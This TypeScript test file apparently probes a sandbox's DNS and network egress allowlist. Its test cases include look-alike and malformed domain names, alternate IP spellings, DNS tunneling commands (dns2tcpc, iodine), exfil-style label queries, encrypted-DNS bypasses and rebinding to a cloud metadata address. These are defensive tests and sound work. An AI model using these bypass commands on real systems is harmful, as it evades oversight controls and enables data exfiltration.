import { attack, packetsFor, questionsAbout, type Attack } from './attack.ts';
import { lab } from './lab.ts';

/** "Names" and "DNS" of the list of attacks. A question that a resolver out there hears has got out. */
const ZONE = 'example.test';
const CURL = 'curl -sSk --max-time 3 -o /dev/null';
const DIG = 'dig +tries=1 +time=2';

/** Listed for these batteries: docs, `*.pkg`, and names with answers that must not be believed. */
export const LISTED = [
  'docs.example.test',
  '*.pkg.example.test',
  'sly.example.test',
  'rebind.example.test',
  'loopback.example.test',
  'metadata.example.test',
  'mixed.example.test',
  'host.example.test',
  'shared.example.test',
  'group.example.test',
] as const;

/** What is granted, in every spelling that means the same. */
export const GRANTED_NAMES: readonly Attack[] = [
  ...[
    ['listed', 'docs.example.test'],
    ['listed-case', 'DoCs.ExAmPlE.tEsT'],
    ['listed-dot', 'docs.example.test.'],
  ].map(([id = '', name = '']) =>
    attack({ id, attempt: `${CURL} https://${name}/`, through: packetsFor('192.0.2.50') }),
  ),
  ...[
    ['below-wildcard', 'files.pkg.example.test'],
    ['far-below-wildcard', 'a.b.pkg.example.test'],
  ].map(([id = '', name = '']) =>
    attack({
      id,
      attempt: `${CURL} https://${name}/`,
      through: ({ seen }) => seen.filter((each) => each.detail === `GET ${name}/`).map((each) => each.detail),
    }),
  ),
];

const exactly =
  (name: string): Attack['through'] =>
  ({ queries }) =>
    queries.filter((query) => query.name === name).map((query) => `${query.type} ${query.name}`);

const LOOK_ALIKES = [
  ['longer-front', `evildocs.${ZONE}`],
  ['longer-end', `docs.${ZONE}.evil.test`],
  ['apex-of-wildcard', `pkg.${ZONE}`],
  ['beside-wildcard', `xpkg.${ZONE}`],
  ['parent', ZONE],
  ['top', 'test'],
  ['sibling', `mail.${ZONE}`],
  ['one-more', `docss.${ZONE}`],
  ['one-less', `doc.${ZONE}`],
  ['below-exact', `a.docs.${ZONE}`],
  ['other-zone', 'docs.example.tes'],
  ['no-dots', 'docsexampletest'],
  ['dash-for-dot', 'docs-example.test'],
  ['punycode', `xn--dcs-sna.${ZONE}`],
  ['homograph', `xn--dcs-8cd.${ZONE}`],
  ['underscore', `_docs.${ZONE}`],
  ['internal-name', 'db.internal'],
  ['search-suffix', `docs.${ZONE}.${ZONE}`],
] as const;

const wire = (...labels: readonly (string | Buffer)[]): string =>
  Buffer.concat([...labels.map((label) => lengthened(label)), Buffer.from([0])]).toString('hex');
const lengthened = (label: string | Buffer): Buffer =>
  Buffer.concat([Buffer.from([Buffer.byteLength(label)]), Buffer.from(label)]);

/** Names as no tool would send them; none of them may be taken for the listed one. */
const ODD_NAMES: readonly (readonly [id: string, hex: string])[] = [
  ['nul', wire('docs\0', 'example', 'test')],
  ['nul-suffix', wire('docs', 'example', 'test\0', 'evil', 'test')],
  ['carriage-return', wire('docs\r\n', 'example', 'test')],
  ['space', wire('docs ', 'example', 'test')],
  ['percent', wire('docs%2e', 'example', 'test')],
  ['at', wire('a@docs', 'example', 'test')],
  ['slash', wire('docs/', 'example', 'test')],
  ['zone-id', wire('docs%eth0', 'example', 'test')],
  ['dot-in-label', wire('docs.example.test')],
  ['dot-in-label-2', wire('evil.docs', 'example', 'test')],
  ['high-bytes', wire(Buffer.from([0xd0, 0xbe]), 'example', 'test')],
  ['long-label', `40${'61'.repeat(64)}${wire('example', 'test')}`],
  ['long-label-wildcard', `7f${'61'.repeat(127)}${wire('pkg', 'example', 'test')}`],
  ['long-name', wire(...Array.from({ length: 60 }, () => 'abcd'), 'pkg', 'example', 'test')],
  ['root', '00'],
  ['pointer-loop', 'c00c'],
  ['pointer-forward', 'c0ff'],
  ['pointer-to-header', `04646f6373c000`],
  ['no-end', '04646f6373'],
];

const SPELLINGS = [
  ['decimal', '3405803928', '203.0.113.152'],
  ['hex', '0xcb007199', '203.0.113.153'],
  ['octal', '0313.0.0161.0232', '203.0.113.154'],
  ['two-parts', '203.29083', '203.0.113.155'],
  ['three-parts', '203.0.29084', '203.0.113.156'],
  ['mixed', '0xcb.0.0161.157', '203.0.113.157'],
  ['mapped', '[::ffff:203.0.113.158]', '203.0.113.158'],
  ['mapped-hex', '[::ffff:cb00:719f]', '203.0.113.159'],
] as const;

export const NAMES: readonly Attack[] = [
  ...LOOK_ALIKES.map(([id, name]) => attack({ id, attempt: `${DIG} ${name} A`, through: exactly(name) })),
  ...ODD_NAMES.map(([id, hex]) =>
    attack({
      id: `odd-${id}`,
      attempt: `raw ask ${hex} $RESOLVER`,
      // Anything that such a question makes a resolver out there hear, whatever it took it for.
      through: ({ queries }) =>
        queries
          .filter((query) => !ORDINARY.test(query.name))
          .map((query) => `${query.type} ${JSON.stringify(query.name)}`),
      blunt: 'the resolver of the engine refuses some of them itself',
    }),
  ),
  ...SPELLINGS.map(([id, spelling, address]) =>
    attack({ id: `spelt-${id}`, attempt: `${CURL} -g http://${spelling}/`, through: packetsFor(address) }),
  ),
];

const ORDINARY = /^[a-z0-9-]+(?:\.[a-z0-9-]+)*$/;

const TYPES = [
  'AAAA',
  'TXT',
  'NULL',
  'ANY',
  'MX',
  'SRV',
  'HTTPS',
  'SVCB',
  'PTR',
  'NS',
  'SOA',
  'CAA',
  'DNSKEY',
  'TYPE1234',
];

export const DNS: readonly Attack[] = [
  attack({
    id: 'other-resolver',
    attempt: `${DIG} @${lab.otherResolver} docs.${ZONE} A; ${DIG} @${lab.otherResolver} direct.${ZONE} A`,
    through: packetsFor(lab.otherResolver, (packet) => packet.protocol === 'udp'),
  }),
  attack({
    id: 'other-resolver-tcp',
    attempt: `${DIG} +tcp @${lab.otherResolver} docs.${ZONE} A`,
    through: packetsFor(lab.otherResolver, (packet) => packet.protocol === 'tcp' && packet.destinationPort === 53),
  }),
  attack({
    id: 'own-resolver-directly',
    attempt: `${DIG} @${lab.resolver} inside.${ZONE} A; ${DIG} +tcp @${lab.resolver} inside.${ZONE} A`,
    through: questionsAbout(`inside.${ZONE}`),
  }),
  attack({
    id: 'built-in-resolver',
    attempt: `${DIG} @127.0.0.11 unlisted.${ZONE} A; ${DIG} +tcp @127.0.0.11 unlisted.${ZONE} A`,
    through: questionsAbout(`unlisted.${ZONE}`),
  }),
  attack({
    id: 'random-labels',
    attempt: `raw labels 200 exfil.${ZONE} $RESOLVER; raw labels 200 exfil.${ZONE} $GATEWAY`,
    through: questionsAbout(`exfil.${ZONE}`),
  }),
  attack({
    id: 'tunnel',
    attempt: `dns2tcpc -d 1 -z tunnel.${ZONE} -T TXT $RESOLVER; dns2tcpc -d 1 -z tunnel.${ZONE} -r ssh -l 2222 -T KEY $RESOLVER`,
    through: questionsAbout(`tunnel.${ZONE}`),
  }),
  attack({
    id: 'tunnel-device',
    attempt: `/usr/sbin/iodine -f -r -T NULL -P secret $RESOLVER tunnel2.${ZONE}`,
    through: questionsAbout(`tunnel2.${ZONE}`),
    rootOnly: true,
  }),
  attack({
    id: 'types',
    attempt: TYPES.map((type) => `${DIG} docs.${ZONE} ${type}`).join('; '),
    through: ({ queries }) =>
      queries
        .filter((query) => query.name === `docs.${ZONE}` && query.type !== 'A' && query.type !== 'AAAA')
        .map((query) => `${query.type} ${query.name}`),
  }),
  attack({
    id: 'class',
    attempt: `${DIG} docs.${ZONE} TXT CH; ${DIG} version.bind TXT CH; ${DIG} hostname.bind TXT CH`,
    through: ({ queries }) => queries.filter((query) => query.name.endsWith('.bind')).map((query) => query.name),
  }),
  attack({
    id: 'two-questions',
    attempt: `raw ask ${wire('docs', 'example', 'test')}00010001${wire('second', 'example', 'test')} $RESOLVER 1 0100 2`,
    through: questionsAbout(`second.${ZONE}`),
    blunt: 'the resolver of the engine reads one question',
  }),
  attack({
    id: 'over-tls',
    attempt: `echo | openssl s_client -connect ${lab.otherResolver}:853`,
    through: packetsFor(lab.otherResolver, (packet) => packet.destinationPort === 853),
  }),
  attack({
    id: 'over-https',
    attempt: `${CURL} -H 'accept: application/dns-message' 'https://203.0.113.160/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'`,
    through: packetsFor('203.0.113.160'),
  }),
  attack({
    id: 'over-quic',
    attempt: 'raw quic 203.0.113.161 853; raw quic 203.0.113.161 443',
    through: packetsFor('203.0.113.161'),
  }),
  attack({
    id: 'port-53-bytes',
    attempt:
      'echo not dns | nc -n -N -w 2 203.0.113.162 53; raw udp 203.0.113.162 53 400; ssh -o BatchMode=yes -o ConnectTimeout=2 -p 53 203.0.113.162',
    through: packetsFor('203.0.113.162'),
  }),
  attack({
    id: 'neighbour-resolver',
    attempt: `${DIG} @$NEIGHBOUR_GATEWAY beside.${ZONE} A; ${DIG} @$BRIDGE beside.${ZONE} A`,
    through: questionsAbout(`beside.${ZONE}`),
    blunt: 'nothing answers there without a fence',
  }),
  attack({
    id: 'update',
    attempt: `raw ask ${wire('docs', 'example', 'test')} $RESOLVER 6 2800; raw ask ${wire('docs', 'example', 'test')} $RESOLVER 252 0100`,
    through: ({ queries }) =>
      queries
        .filter((query) => query.type === 'SOA' || query.type === 'AXFR')
        .map((query) => `${query.type} ${query.name}`),
    blunt: 'the resolver of the engine may answer it itself',
  }),
  attack({
    id: 'unlisted-alias-target',
    attempt: `${CURL} https://evil.${ZONE}/`,
    through: (arrivals) => questionsAbout(`evil.${ZONE}`)(arrivals),
  }),
  ...[
    ['answer-private', 'rebind', lab.internalAddress],
    ['answer-metadata', 'metadata', '169.254.169.254'],
    ['answer-shared', 'shared', '100.64.1.1'],
  ].map(([id = '', label = '', address = '']) =>
    attack({
      id,
      attempt: `${CURL} https://${label}.${ZONE}/; getent ahostsv4 ${label}.${ZONE}; echo x | nc -n -N -w 1 ${address} 443`,
      through: packetsFor(address),
    }),
  ),
  attack({
    id: 'answer-host',
    attempt: `${CURL} https://host.${ZONE}/; ${CURL} http://host.${ZONE}:$HOST_PORT/answer-host; ${CURL} https://host.${ZONE}:$HOST_PORT/`,
    through: ({ atHost }) => atHost.filter((line) => line.includes('answer-host')),
  }),
  attack({
    id: 'answer-loopback',
    attempt: `${CURL} http://loopback.${ZONE}:$HOST_PORT/answer-loopback; ${DIG} +short loopback.${ZONE} A`,
    through: ({ atHost }) => atHost.filter((line) => line.includes('answer-loopback')),
    blunt: 'it is the loopback of the container',
  }),
  attack({
    id: 'answer-group',
    attempt: `${DIG} +short group.${ZONE} A; raw group group.${ZONE} 5353`,
    through: ({ atHost }) => atHost.filter((line) => line.startsWith('group ')),
  }),
];
